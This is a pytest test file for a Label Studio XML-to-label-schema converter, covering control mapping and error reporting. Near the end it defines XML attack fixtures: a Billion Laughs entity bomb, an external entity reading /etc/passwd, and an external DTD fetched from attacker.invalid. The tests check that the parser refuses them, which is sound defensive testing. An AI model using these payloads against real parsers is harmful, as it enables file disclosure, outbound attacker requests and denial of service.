"""Label Studio XML configs become label schemas; anything we cannot honour is refused by name."""

from __future__ import annotations

from typing import Any

import pytest

from app.core.errors import ValidationFailed
from app.label_schema import (
    BoxesControl,
    ChoicesControl,
    KeypointsControl,
    LabelSchema,
    NumberControl,
    PolygonsControl,
    RatingControl,
    SpansControl,
    TextControl,
    parse_label_schema,
)
from app.label_schema.label_studio import label_schema_from_label_studio


def convert(body: str) -> LabelSchema:
    return label_schema_from_label_studio(f"<View>{body}</View>")


def refused(xml: str) -> ValidationFailed:
    with pytest.raises(ValidationFailed) as caught:
        label_schema_from_label_studio(xml)
    assert caught.value.status == 422
    return caught.value


TEXT = '<Text name="txt" value="$text"/>'
IMAGE = '<Image name="img" value="$image"/>'


def test_choices_become_a_single_choice_control_bound_to_the_text_field() -> None:
    schema = convert(
        TEXT + '<Choices name="sentiment" toName="txt">'
        '<Choice value="positive"/><Choice value="negative"/></Choices>'
    )
    [control] = schema.controls
    assert isinstance(control, ChoicesControl)
    assert (control.name, control.field, control.labels) == (
        "sentiment",
        "text",
        ["positive", "negative"],
    )
    # Label Studio's classification tags are optional unless they say required="true".
    assert (control.multiple, control.required) == (False, False)


def test_choice_multiple_and_required_true_are_carried_over() -> None:
    schema = convert(
        TEXT + '<Choices name="topics" toName="txt" choice="multiple" required="true">'
        '<Choice value="a"/><Choice value="b"/><Choice value="c"/></Choices>'
    )
    [control] = schema.controls
    assert isinstance(control, ChoicesControl)
    assert (control.multiple, control.required, control.max_count) == (True, True, 3)


def test_labels_over_a_text_become_spans() -> None:
    schema = convert(
        TEXT + '<Labels name="ner" toName="txt"><Label value="PER"/><Label value="ORG"/></Labels>'
    )
    [control] = schema.controls
    assert isinstance(control, SpansControl)
    assert (control.field, control.labels, control.required) == ("text", ["PER", "ORG"], True)


@pytest.mark.parametrize(
    ("tag", "kind"),
    [
        ("RectangleLabels", BoxesControl),
        ("PolygonLabels", PolygonsControl),
        ("KeyPointLabels", KeypointsControl),
    ],
)
def test_image_region_tags_become_shape_controls(tag: str, kind: type) -> None:
    schema = convert(IMAGE + f'<{tag} name="shapes" toName="img"><Label value="car"/></{tag}>')
    [control] = schema.controls
    assert isinstance(control, kind)
    assert (control.field, control.labels) == ("image", ["car"])


def test_textarea_becomes_a_text_control() -> None:
    schema = convert(IMAGE + '<TextArea name="caption" toName="img" rows="3" required="true"/>')
    [control] = schema.controls
    assert isinstance(control, TextControl)
    assert (control.field, control.required, control.min_chars) == ("image", True, 1)


def test_textarea_without_toname_labels_the_only_object() -> None:
    [control] = convert(IMAGE + '<TextArea name="caption"/>').controls
    assert isinstance(control, TextControl)
    assert control.field == "image"


def test_rating_carries_max_rating() -> None:
    schema = convert(TEXT + '<Rating name="stars" toName="txt" maxRating="10"/>')
    [control] = schema.controls
    assert isinstance(control, RatingControl)
    assert (control.max, control.field) == (10, "text")
    [default] = convert(TEXT + '<Rating name="stars" toName="txt"/>').controls
    assert isinstance(default, RatingControl)
    assert default.max == 5


def test_number_carries_min_max_and_a_whole_step_makes_it_integer() -> None:
    schema = convert(
        TEXT + '<Number name="n" toName="txt" min="0" max="10" step="1"/>'
        '<Number name="x" toName="txt" min="-1.5" max="2.5"/>'
        '<Number name="y" toName="txt" step="0.1"/>'
    )
    n, x, y = schema.controls
    assert isinstance(n, NumberControl)
    assert isinstance(x, NumberControl)
    assert isinstance(y, NumberControl)
    assert (n.min, n.max, n.integer) == (0, 10, True)
    assert (x.min, x.max, x.integer) == (-1.5, 2.5, False)
    assert (y.min, y.max, y.integer) == (None, None, False)


def test_a_full_config_with_layout_tags_converts_in_document_order() -> None:
    schema = parse_label_schema(
        """<?xml version="1.0" encoding="UTF-8"?>
        <View style="display: flex">
          <Style>.htx-text { white-space: pre-wrap; }</Style>
          <Header value="Read the text"/>
          <View>
            <Text name="txt" value="$text"/>
            <Labels name="ner" toName="txt"><Label value="PER" background="red"/></Labels>
          </View>
          <Image name="img" value="$image" zoom="true"/>
          <RectangleLabels name="boxes" toName="img" strokeWidth="3">
            <Label value="car"/><Label value="person"/>
          </RectangleLabels>
          <choices name="quality" toname="img"><choice value="good"/><choice value="bad"/></choices>
        </View>"""
    )
    assert [c.name for c in schema.controls] == ["ner", "boxes", "quality"]
    assert [c.field for c in schema.controls] == ["text", "image", "image"]


def test_an_unsupported_control_tag_is_named_in_the_error() -> None:
    error = refused(
        "<View>\n"
        '  <Text name="txt" value="$text"/>\n'
        '  <BrushLabels name="brush" toName="txt"><Label value="a"/></BrushLabels>\n'
        '  <Relations><Relation value="rel"/></Relations>\n'
        '  <Choices name="ok" toName="txt"><Choice value="a"/></Choices>\n'
        "</View>"
    )
    assert error.detail == "Label Studio tags not supported: BrushLabels, Relations"
    assert [(e["line"], e["detail"].split(" ")[0]) for e in error.errors] == [
        (3, "<BrushLabels>"),
        (4, "<Relations>"),
    ]


@pytest.mark.parametrize(
    "tag", ["BrushLabels", "TimelineLabels", "OcrLabels", "VideoRectangle", "Rectangle"]
)
def test_other_label_studio_controls_are_refused(tag: str) -> None:
    error = refused(f'<View>{IMAGE}<{tag} name="x" toName="img"><Label value="a"/></{tag}></View>')
    assert tag in (error.detail or "")


def binding_errors(body: str) -> list[dict[str, Any]]:
    return refused(f"<View>{body}</View>").errors


def test_binding_problems_are_all_reported() -> None:
    errors = binding_errors(
        TEXT
        + IMAGE
        + '<Labels name="a" toName="img"><Label value="x"/></Labels>'
        + '<RectangleLabels name="b" toName="txt"><Label value="x"/></RectangleLabels>'
        + '<Choices name="c" toName="nowhere"><Choice value="x"/></Choices>'
        + '<Choices name="d"><Choice value="x"/></Choices>'
        + '<Choices name="e" toName="txt" perRegion="true"><Choice value="x"/></Choices>'
        + '<Taxonomy value="$options" name="f" toName="txt"/>'
        + '<RectangleLabels name="g" toName="img" choice="multiple"><Label value="x"/>'
        + "</RectangleLabels>"
        + '<Pairwise name="h" toName="txt"/>'
        + '<Number name="i" toName="txt" perRegion="true"/>'
        + '<Choices name="j" toName="img" perRegion="true" whenChoiceValue="x">'
        + '<Choice value="y"/></Choices>'
    )
    details = [e["detail"] for e in errors]
    assert details == [
        '<Labels name="a"> can only label <Text>, <Audio>, <AudioPlus> or <Video>, not '
        '<Image name="img">',
        '<RectangleLabels name="b"> can only label <Image>, not <Text name="txt">',
        '<Choices name="c">: toName="nowhere" names no object tag',
        '<Choices name="d"> has no toName',
        '<Taxonomy name="f">: labels loaded from the task data are not supported',
        '<RectangleLabels name="g">: one label per region is supported, not several',
        '<Pairwise name="h"> compares 2 objects: name them all in toName ("left,right")',
        '<Number name="i">: perRegion is supported on Choices, TextArea and Rating only',
        '<Choices name="j">: whenChoiceValue is not supported; a per-region attribute applies to '
        "every region of its control (whenTagName picks the control, whenLabelValue the labels)",
        '<Choices name="e"> asks about regions of <Text name="txt">, but no region control '
        "labels it",
    ]


def test_attribute_and_label_problems_point_at_their_lines() -> None:
    errors = refused(
        "<View>\n"
        '  <Text name="txt" value="$text"/>\n'
        '  <Rating name="r" toName="txt" maxRating="20"/>\n'
        '  <Choices name="c" toName="txt">\n'
        '    <Choice value="a"/>\n'
        '    <Choice value=""/>\n'
        "  </Choices>\n"
        "</View>"
    ).errors
    assert [e["line"] for e in errors] == [3, 6]
    assert errors[0]["detail"].startswith('<Rating name="r"> maxRating: ')
    assert errors[1]["detail"].startswith('label 2 of <Choices name="c">: ')


def test_bad_attribute_values_are_reported() -> None:
    details = [
        e["detail"]
        for e in binding_errors(
            TEXT
            + '<Rating name="r" toName="txt" maxRating="ten"/>'
            + '<Number name="n" toName="txt" min="low" max="nan"/>'
            + '<Choices name="c" toName="txt" required="yes" choice="some"><Choice value="a"/>'
            + "</Choices>"
        )
    ]
    assert details == [
        '<Rating name="r">: maxrating="ten" is not a whole number',
        '<Number name="n">: min="low" is not a number',
        '<Number name="n">: max="nan" is not a finite number',
        '<Choices name="c">: required="yes" is neither true nor false',
        '<Choices name="c">: choice="some" is not one of single, single-radio, multiple',
    ]


def test_a_control_labelling_a_literal_object_has_no_field() -> None:
    errors = binding_errors(
        '<Text name="intro" value="Rate this"/>'
        '<Choices name="c" toName="intro"><Choice value="a"/></Choices>'
    )
    assert 'not a "$field" reference' in errors[0]["detail"]
    [rating] = convert(
        '<Text name="intro" value="Rate this"/><Rating name="r" toName="intro"/>'
    ).controls
    assert rating.field is None


def test_duplicate_names_and_empty_configs_are_refused() -> None:
    errors = binding_errors(TEXT + '<Rating name="r" toName="txt"/><Number name="r" toName="txt"/>')
    assert "repeated: 'r'" in errors[0]["detail"]
    assert "no control tag" in binding_errors(TEXT)[0]["detail"]


def test_malformed_xml_is_refused_with_its_line() -> None:
    error = refused("<View>\n  <Choices name='x'>\n</View>")
    assert error.errors[0]["line"] == 3
    assert "not well-formed" in error.errors[0]["detail"]


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<View><Text name="t" value="$text"/>
<Choices name="c" toName="t"><Choice value="&lol9;"/></Choices></View>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE View [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<View><Text name="t" value="$text"/>
<Choices name="c" toName="t"><Choice value="&secret;"/></Choices></View>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE View SYSTEM "http://attacker.invalid/evil.dtd">
<View><Text name="t" value="$text"/></View>
"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_dtds_and_entities_are_refused_before_anything_is_expanded(xml: str) -> None:
    error = refused(xml)
    assert error.errors == [
        {
            "line": 2,
            "detail": "DTDs, entity declarations and external references are not allowed in a "
            "labeling config",
        }
    ]


def test_an_undeclared_entity_is_malformed_xml() -> None:
    error = refused('<View><Text name="t" value="&secret;"/></View>')
    assert "not well-formed" in error.errors[0]["detail"]


def test_parse_label_schema_reads_xml_strings() -> None:
    schema = parse_label_schema(f"  <View>{TEXT}<Rating name='r' toName='txt'/></View>")
    assert [c.type for c in schema.controls] == ["rating"]
    with pytest.raises(ValidationFailed):
        parse_label_schema(f"<View>{TEXT}<BrushLabels name='t' toName='txt'/></View>")


def test_structural_problems_inside_controls_are_reported() -> None:
    details = [
        e["detail"]
        for e in binding_errors(
            TEXT
            + '<Text name="txt" value="$other"/>'
            + '<Image value="$unnamed"/>'
            + '<Choices toName="txt"><Choice value="a"/></Choices>'
            + '<Labels name="c" toName="txt,img"><Label value="a"/></Labels>'
            + '<Labels name="l" toName="txt"><Label value="a"/><Choice value="b"/><Label/></Labels>'
        )
    ]
    assert details == [
        "two object tags are named 'txt'",
        "<Choices> has no name",
        '<Labels name="c">: toName names several objects; one is supported',
        '<Labels name="l"> cannot contain <Choice>',
        '<Label> in <Labels name="l"> has no value',
    ]


def test_layout_inside_controls_shortcuts_and_unbound_ratings_are_accepted() -> None:
    schema = convert(
        TEXT
        + IMAGE
        + '<Choices name="c" toName="txt"><View><Header value="Pick"/><Choice value="a"/></View>'
        + "</Choices>"
        + '<TextArea name="t" toName="txt"><Shortcut value="n/a" hotkey="1"/></TextArea>'
        + '<Rating name="r"/>'
    )
    choices, text, rating = schema.controls
    assert isinstance(choices, ChoicesControl)
    assert choices.labels == ["a"]
    assert isinstance(text, TextControl)
    assert rating.field is None


def test_a_choice_alias_is_the_label_because_label_studio_results_carry_it() -> None:
    [control] = convert(
        TEXT + '<Choices name="c" toName="txt"><Choice value="Positive" alias="pos"/></Choices>'
    ).controls
    assert isinstance(control, ChoicesControl)
    assert control.labels == ["pos"]


def test_rules_between_attributes_are_reported_on_the_tag() -> None:
    [error] = binding_errors(TEXT + '\n<Number name="n" toName="txt" min="5" max="1"/>')
    assert error == {"line": 2, "detail": '<Number name="n">: min must not exceed max'}
